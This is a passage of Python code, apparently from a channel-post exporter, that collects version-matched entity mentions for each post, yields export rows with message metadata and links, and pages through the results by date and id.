            for mt in (await conn.execute(mq)).all():
                if mt.version == versions[mt.post_id]:
                    found.setdefault(mt.post_id, []).append(ExportMatch(
                        names.get(mt.entity_id, mt.entity_id), mt.entity_id, mt.start, mt.end, mt.surface,
                        bool(mt.in_preview)))
            for p in posts:
                u, t, g = labels.get(p.channel_id, (None, None, None))
                yield ExportRow(
                    channel=channel_label(u, t, g), message_id=p.message_id, date=p.date, edit_date=p.edit_date,
                    views=p.views, forwards=p.forwards, forwarded_from=p.fwd_name, deleted=bool(p.deleted),
                    version=p.version, link=message_link(u, g, p.message_id), text=p.text,
                    matches=tuple(found.get(p.id, ())),
                )
            last = posts[-1]
            after = (last.date, last.id)
